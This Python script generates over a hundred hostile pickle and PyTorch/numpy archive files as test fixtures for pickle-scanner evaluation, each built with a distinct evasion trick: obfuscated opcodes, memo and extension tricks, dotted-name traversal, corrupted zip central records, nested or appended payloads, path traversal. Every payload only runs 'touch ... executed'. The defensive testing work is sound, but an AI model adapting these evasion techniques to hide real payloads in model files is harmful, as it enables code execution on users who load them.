#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes pickles and archives that would run code when loaded, one file a trick, and says so.

usage: make_hostile.py FOLDER

Every payload only touches the file FOLDER/../executed, so that a test can tell whether one ran. The
bytes are put together by hand: nothing is pickled, imported or run here. Standard library only.
The tricks are those that scanners of pickles are known to have missed, and the plain ones.
"""
import bz2
import io
import lzma
import pathlib
import struct
import sys
import tarfile
import zipfile
import warnings
import zlib

warnings.filterwarnings("ignore", message="Duplicate name")  # one of the tricks
COMMAND = "touch {}/executed"


def text(s):
    """SHORT_BINUNICODE or BINUNICODE"""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def binuni(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, *args):
    """GLOBAL, a tuple of texts, REDUCE"""
    return glob(module, name) + b"(" + b"".join(binuni(a) for a in args) + b"tR"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    return b"\x80\x04" + body + b"."


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


STORAGE = b"\0\0\x80\x3f" * 4  # four floats of 1.0
STATE = (b"ccollections\nOrderedDict\n)Rq\0" + binuni("w") +
         b"ctorch._utils\n_rebuild_tensor_v2\n((" + binuni("storage") + b"ctorch\nFloatStorage\n" +
         binuni("0") + binuni("cpu") + b"K\x04tQK\0K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs")


def torch_zip(pickle, members=(), compression=zipfile.ZIP_STORED, folder="archive", storage=STORAGE):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        z.writestr(folder + "/data.pkl", pickle)
        z.writestr(folder + "/byteorder", "little")
        z.writestr(folder + "/data/0", storage)
        z.writestr(folder + "/version", "3\n")
        for name, content in members:
            z.writestr(name, content)
    return out.getvalue()


def pickles(cmd):
    """Tricks in a bare pickle: name, bytes."""
    system = call("posix", "system", cmd)
    yield "reduce_os", p2(call("os", "system", cmd))
    yield "reduce_posix", p2(system)
    yield "reduce_nt", p2(call("nt", "system", cmd))
    yield "protocol0_text", b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR."
    yield "inst", b"(S'" + cmd.encode() + b"'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\n" + binuni(cmd) + b"o."
    yield "newobj", p2(glob("subprocess", "Popen") + binuni(cmd) + b"\x85\x81")
    yield "newobj_ex", p4(stack_global("subprocess", "Popen") + binuni(cmd) + b"\x85}" + text("shell") +
                          b"\x88s\x92")
    yield "stack_global", p4(stack_global("os", "system") + binuni(cmd) + b"\x85R")
    yield "stack_global_memo", p4(text("system") + b"\x940" + text("os") + b"\x940" + text("collections") +
                                  text("OrderedDict") + b"00h\x01h\0\x93" + binuni(cmd) + b"\x85R")
    yield "stack_global_memo_rewritten", p4(text("collections") + b"q\x000" + text("os") + b"q\x000h\0" +
                                            text("system") + b"\x93" + binuni(cmd) + b"\x85R")
    yield "stack_global_memo_far", p4(text("os") + b"r\xff\xff\xff\xff0j\xff\xff\xff\xff" + text("system") +
                                      b"\x93" + binuni(cmd) + b"\x85R")
    yield "stack_global_dup", p4(text("os") + b"2" + b"0" + text("system") + b"\x93" + binuni(cmd) + b"\x85R")
    yield "stack_global_mark", p4(text("os") + b"(NNN1" + text("system") + b"\x93" + binuni(cmd) + b"\x85R")
    yield "escaped_unicode", b"V\\u006fs\nV\\u0073ystem\n\x93(V" + cmd.encode() + b"\ntR."
    yield "escaped_string", b"S'\\x6fs'\nS'\\163ystem'\n\x93(S'" + cmd.encode() + b"'\ntR."
    yield "computed_name", p4(stack_global("builtins", "str") + text("os") + b"\x85R" + text("system") +
                              b"\x93" + binuni(cmd) + b"\x85R")
    yield "builtins_eval", p2(call("builtins", "eval", "__import__('os').system(%r)" % cmd))
    yield "builtin_alias_exec", p2(call("__builtin__", "exec", "import os; os.system(%r)" % cmd))
    yield "builtins_import", p2(call("builtins", "__import__", "antigravity"))
    yield "getattr_chain", p2(glob("builtins", "getattr") + b"(" + call("builtins", "__import__", "os") +
                              binuni("system") + b"tR" + binuni(cmd) + b"\x85R")
    yield "dotted_name", p4(stack_global("collections", "abc.sys.modules") + b")R")
    yield "dotted_through_allowed", p4(stack_global("torch", "serialization.os.system") + binuni(cmd) + b"\x85R")
    yield "copyreg_extension", p2(b"\x82\x01" + binuni(cmd) + b"\x85R")
    yield "extension_four_bytes", p2(b"\x84\x01\0\0\x7f" + binuni(cmd) + b"\x85R")
    yield "copyreg_add_extension", p2(glob("copyreg", "add_extension") + b"(" + binuni("os") +
                                      binuni("system") + b"K\x01tR0\x82\x01" + binuni(cmd) + b"\x85R")
    yield "codecs_decode", p2(call("codecs", "decode", "whatever", "rot13"))
    yield "allowed_encode_odd", p2(glob("_codecs", "encode") + binuni("x" * 20) + binuni("zip") + b"\x86R")
    yield "allowed_bytearray_huge", p2(glob("__builtin__", "bytearray") + b"\x8a\x06\0\0\0\0\0\x40\x85R")
    yield "allowed_storage_called", p2(glob("torch.storage", "UntypedStorage") + b"\x8a\x06\0\0\0\0\0\x40\x85R")
    yield "build_on_class", p2(glob("collections", "OrderedDict") + b"}" + binuni("__reduce__") +
                               glob("os", "system") + b"sb")
    yield "build_setstate", p2(glob("collections", "OrderedDict") + b")R}" + binuni("__setstate__") +
                               glob("os", "system") + b"sb" + binuni(cmd) + b"b")
    yield "setitem_hook", p2(glob("collections", "OrderedDict") + b")R" + glob("posix", "system") +
                             binuni("x") + b"s")
    yield "numpy_load", p2(call("numpy", "load", "/tmp/x.npy"))
    yield "numpy_runstring", p2(call("numpy.testing._private.utils", "runstring", cmd))
    yield "torch_load", p2(call("torch", "load", "/tmp/x.pt"))
    yield "torch_hub", p2(call("torch.hub", "load", "someone/repository", "model"))
    yield "torch_load_from_bytes", p2(glob("torch.storage", "_load_from_bytes") + b"C\x04\x80\x02N.\x85R")
    yield "torch_cpp_extension", p2(call("torch.utils.cpp_extension", "load", "x", "/tmp/x.cpp"))
    yield "torch_config_gen", p2(call("torch.utils._config_module", "load_config", "x"))
    yield "runpy", p2(call("runpy", "run_path", "/tmp/x.py"))
    yield "pip_main", p2(glob("pip", "main") + b"(" + binuni("install") + binuni("x") + b"ltR")
    yield "ctypes_cdll", p2(call("ctypes", "CDLL", "/tmp/x.so"))
    yield "webbrowser", p2(call("webbrowser", "open", "http://localhost:9/"))
    yield "asyncio_shell", p2(call("asyncio", "create_subprocess_shell", cmd))
    yield "asyncio_unix", p2(call("asyncio.unix_events", "_UnixSubprocessTransport._start", cmd))
    yield "socket", p2(glob("socket", "create_connection") + binuni("localhost") + b"K\x09\x86\x85R")
    yield "urlopen", p2(call("urllib.request", "urlopen", "http://localhost:9/"))
    yield "operator_attrgetter", p2(call("operator", "attrgetter", "system"))
    yield "functools_partial", p2(glob("functools", "partial") + glob("os", "system") + binuni(cmd) + b"\x86R)R")
    yield "timeit", p2(call("timeit", "timeit", "import os"))
    yield "pdb_run", p2(call("pdb", "run", "import os"))
    yield "profile_run", p2(call("cProfile", "run", "import os"))
    yield "code_interact", p2(call("code", "InteractiveInterpreter"))
    yield "pydoc_pipe", p2(call("pydoc", "pipepager", "x", cmd))
    yield "idlelib", p2(call("idlelib.pyshell", "ModifiedInterpreter.runcommand", "import os"))
    yield "lib2to3", p2(call("lib2to3.pgen2.grammar", "Grammar.loads", "x"))
    yield "logging_config", p2(glob("logging.config", "_resolve") + binuni("os.system") + b"\x85R")
    yield "distutils_write", p2(call("distutils.file_util", "write_file", "/tmp/x", "y"))
    yield "pickle_in_pickle", p2(glob("_pickle", "loads") + b"C" + bytes([len(p2(system))]) + p2(system) + b"\x85R")
    yield "marshal_code", p2(glob("types", "FunctionType") + glob("marshal", "loads") + b"C\x01N\x85R}\x86R")
    yield "joblib", p2(call("joblib", "load", "/tmp/x"))
    yield "unknown_package", p2(call("some_package_nobody_knows", "run", cmd))
    yield "broken_after_payload", b"\x80\x02" + system + b"\xff\xff broken"
    yield "cut_after_payload", b"\x80\x02" + system
    yield "unknown_opcode_after", b"\x80\x02" + system + b"0\x99N."
    yield "dropped_result", p2(system + b"0" + STATE[:0] + b"}")
    yield "left_on_stack", p2(system + b"}")
    yield "second_pickle", p2(b"N") + p2(system)
    yield "frame_too_long", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + stack_global("os", "system") + \
        binuni(cmd) + b"\x85R."
    yield "frame_in_the_middle", b"\x80\x04\x95" + struct.pack("<Q", 3) + text("os") + text("system") + \
        b"\x93" + binuni(cmd) + b"\x85R."
    yield "protocol_in_the_middle", b"\x80\x02N0\x80\x04" + stack_global("os", "system") + binuni(cmd) + b"\x85R."
    yield "persistent_text", b"Phttp://localhost:9/\n."
    yield "persistent_other", p2(binuni("module") + binuni("x") + b"\x86Q")
    yield "known_class_constructor", p2(glob("transformers.integrations.deepspeed", "HfDeepSpeedConfig") +
                                        b"}\x85R")
    yield "known_module_function", p2(call("transformers.trainer_utils", "import_module", "x"))


def patched(archive, name, offset, data):
    """Changes the central record of a member: the local header and the content stay."""
    b = bytearray(archive)
    at = 0
    while True:
        at = b.find(b"PK\1\2", at)
        n = struct.unpack("<H", b[at + 28:at + 30])[0]
        if bytes(b[at + 46:at + 46 + n]) == name.encode():
            b[at + offset:at + offset + len(data)] = data
            return bytes(b)
        at += 4


def archives(cmd):
    """Tricks in archives: name, bytes."""
    bad = p2(call("posix", "system", cmd))
    good = p2(STATE)
    mixed = p2(call("posix", "system", cmd) + b"0" + STATE)
    yield "zip_plain.pt", torch_zip(bad)
    yield "zip_mixed_with_weights.pt", torch_zip(mixed)
    yield "zip_deflated.pt", torch_zip(mixed, compression=zipfile.ZIP_DEFLATED)
    yield "zip_other_name.pt", torch_zip(good, [("archive/other.pkl", bad)])
    yield "zip_other_ending.pt", torch_zip(good, [("archive/config.json", bad)])
    yield "zip_second_folder.pt", torch_zip(good, [("other/data.pkl", bad)])
    yield "zip_double_pickle.pt", torch_zip(good, [("archive/data.pkl", bad)])
    yield "zip_script.pt", torch_zip(good, [("archive/code/__torch__.py", "import os"),
                                            ("archive/constants.pkl", p2(b")"))])
    yield "zip_nested.pt", torch_zip(good, [("archive/extra", torch_zip(bad))])
    yield "zip_in_storage.pt", torch_zip(good, storage=(torch_zip(bad)))
    yield "pickle_in_storage.pt", torch_zip(good, storage=(bad + b"\0" * 16)[:16])
    yield "zip_traversal.pt", torch_zip(good, [("archive/../../../evil", b"x")])
    yield "zip_behind_stop.pt", torch_zip(good + bad)
    whole = torch_zip(mixed)
    yield "zip_bad_crc.pt", patched(whole, "archive/data.pkl", 16, b"\0\0\0\0")
    yield "zip_encrypted_flag.pt", patched(whole, "archive/data.pkl", 8, b"\1\0")
    yield "zip_other_method.pt", patched(whole, "archive/data.pkl", 10, b"\x63\0")
    yield "zip_lying_size.pt", patched(whole, "archive/data.pkl", 24, struct.pack("<I", 3))
    yield "zip_renamed_in_directory.pt", patched(whole, "archive/data.pkl", 46, b"archive/data.txt")
    yield "zip_prefix.pt", b"\x80\x02N." + whole
    yield "zip_suffix.pt", whole + bad
    yield "zip_after_pickle.pt", bad + torch_zip(good)
    end = torch_zip(good)
    yield "zip_two_ends.pt", whole[:-2] + struct.pack("<H", 22) + end[-22:]
    yield "seven_zip.pt", b"7z\xbc\xaf\x27\x1c\0\4" + lzma.compress(bad)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, content in (("sys_info", p2(b"}")), ("pickle", bad), ("storages", p2(b"K\0")), ("tensors", p2(b"K\0"))):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            t.addfile(info, io.BytesIO(content))
    yield "tar_legacy.pt", out.getvalue()
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    sizes = p2(b"}(" + binuni("protocol_version") + b"M\xe9\x03" + binuni("little_endian") + b"\x88u")
    yield "legacy_stream.pt", magic + p2(b"M\xe9\x03") + sizes + bad + p2(b"]")
    yield "legacy_sizes_pickle.pt", magic + p2(b"M\xe9\x03") + bad + good + p2(b"]")
    yield "legacy_keys_pickle.pt", magic + p2(b"M\xe9\x03") + sizes + p2(b"}") + bad
    yield "gzip_pickle.pkl.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(bad)[2:-4] + \
        struct.pack("<II", zlib.crc32(bad), len(bad))
    yield "bzip2_pickle.pkl.bz2", bz2.compress(bad)
    yield "zlib_pickle.joblib", zlib.compress(bad)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        header += b" " * (117 - len(header)) + b"\n"
        z.writestr("arr_0.npy", b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + bad)
    yield "numpy_objects.npz", out.getvalue()


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    cmd = COMMAND.format(folder.resolve().parent)
    count = 0
    for name, content in pickles(cmd):
        (folder / (name + ".pkl")).write_bytes(content)
        count += 1
    for name, content in archives(cmd):
        (folder / name).write_bytes(content)
        count += 1
    print(f"{count} hostile files in {folder}")


main()
